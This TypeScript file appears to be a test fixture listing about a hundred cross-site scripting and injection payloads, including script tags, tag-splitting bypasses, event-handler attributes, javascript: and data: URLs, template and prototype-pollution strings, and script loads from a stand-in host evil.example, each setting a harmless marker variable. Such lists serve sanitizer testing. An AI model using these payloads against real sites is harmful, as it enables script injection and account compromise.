// A hundred texts that try to become script: tags, attributes, addresses, templates, prototypes, style and encodings.

const mark = 'globalThis.nablaWasHere=1';

const tags = [
  `<script>${mark}</script>`,
  `<SCRIPT>${mark}</SCRIPT>`,
  `<scr<script>ipt>${mark}</scr</script>ipt>`,
  `"><script>${mark}</script>`,
  `'><script>${mark}</script>`,
  `</title><script>${mark}</script>`,
  `</textarea><script>${mark}</script>`,
  `</style><script>${mark}</script>`,
  `--><script>${mark}</script>`,
  `]]><script>${mark}</script>`,
  `<script src=data:text/javascript,${mark}></script>`,
  `<svg><script>${mark}</script></svg>`,
  `<math><mtext><script>${mark}</script></mtext></math>`,
  `<template><script>${mark}</script></template>`,
  `<noscript><p title="</noscript><script>${mark}</script>">`,
];

const handlers = [
  ['img src=x', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['video src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['marquee', 'onstart'],
  ['iframe', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onload'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['style', 'onload'],
  ['div style=animation-name:x', 'onanimationstart'],
  ['a id=x tabindex=1', 'onfocus'],
  ['p', 'onmouseover'],
  ['button', 'onclick'],
  ['form', 'onsubmit'],
].flatMap(([tag = '', handler = '']) => [
  `<${tag} ${handler}=${mark}>`,
  `"><${tag} ${handler}="${mark}">`,
  `' ${handler}='${mark}' x='`,
]);

const addresses = [
  `javascript:${mark}`,
  `JaVaScRiPt:${mark}`,
  `java\tscript:${mark}`,
  `\u0001javascript:${mark}`,
  `data:text/html,<script>${mark}</script>`,
  `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  `vbscript:${mark}`,
  `//evil.example/x.js`,
  `https://evil.example/x.js`,
];

const others = [
  `{{constructor.constructor('${mark}')()}}`,
  `\${${mark}}`,
  `#{${mark}}`,
  `<%= ${mark} %>`,
  `__proto__[x]=1`,
  `constructor[prototype][x]=1`,
  `{"__proto__":{"x":1}}`,
  `'-${mark}-'`,
  `";${mark};//`,
  `\\";${mark};//`,
  `*/${mark}/*`,
  `url(javascript:${mark})`,
  `red;background:url(//evil.example)`,
  `expression(${mark})`,
  `&#60;script&#62;${mark}&#60;/script&#62;`,
  `%3Cscript%3E${mark}%3C/script%3E`,
  `\u2028${mark}`,
];

export const payloads: readonly string[] = [...tags, ...handlers, ...addresses, ...others];
